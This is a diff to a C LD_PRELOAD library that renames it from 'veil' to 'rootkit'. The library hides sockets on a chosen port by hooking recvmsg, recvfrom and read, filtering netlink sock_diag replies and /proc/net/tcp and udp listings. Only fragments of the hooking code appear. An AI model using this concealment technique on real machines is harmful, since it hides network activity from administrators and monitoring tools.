@@ -1,8 +1,8 @@
 /*
- * veil: a library for LD_PRELOAD that hides the sockets at one port, as a rootkit does, from one
+ * rootkit: a library for LD_PRELOAD that hides the sockets at one port, as a rootkit does, from one
  * list of them or from two.
  *
- * VEIL_PORT is the port. VEIL_FROM has `netlink`: rows of sock_diag(7) are taken out of what
+ * ROOTKIT_PORT is the port. ROOTKIT_FROM has `netlink`: rows of sock_diag(7) are taken out of what
  * recvmsg(2) and its kin give, and the datagram is whole thereafter; `procfs`: lines are taken out
  * of /proc/net/tcp, tcp6, udp and udp6 when they are first read(2).
  */
@@ -35,14 +35,14 @@ __attribute__((constructor)) static void start(void)
 {
 	if (real_read)
 		return;
-	const char *hidden = getenv("VEIL_PORT"), *from = getenv("VEIL_FROM");
+	const char *hidden = getenv("ROOTKIT_PORT"), *from = getenv("ROOTKIT_FROM");
 
 	real_recvmsg = (ssize_t(*)(int, struct msghdr *, int))dlsym(RTLD_NEXT, "recvmsg");
 	real_recvfrom = (ssize_t(*)(int, void *, size_t, int, struct sockaddr *, socklen_t *))dlsym(
 		RTLD_NEXT, "recvfrom");
 	real_read = (ssize_t(*)(int, void *, size_t))dlsym(RTLD_NEXT, "read");
 	if (!hidden || !from || !real_recvmsg || !real_recvfrom || !real_read) {
-		fputs("veil: VEIL_PORT and VEIL_FROM are wanted\n", stderr);
+		fputs("rootkit: ROOTKIT_PORT and ROOTKIT_FROM are wanted\n", stderr);
 		_exit(125);
 	}
 	port = (unsigned)strtoul(hidden, NULL, 10);
@@ -170,7 +170,7 @@ static bool is_hidden_line(const char *line)
 /* Put a copy without the hidden lines in the place of the file. */
 static void veil_list(int fd)
 {
-	const int hidden = dup(fd), copy = memfd_create("veil", MFD_CLOEXEC);
+	const int hidden = dup(fd), copy = memfd_create("rootkit", MFD_CLOEXEC);
 	FILE *in = hidden < 0 ? NULL : fdopen(hidden, "r");
 	char *line = NULL;
 	size_t room = 0;
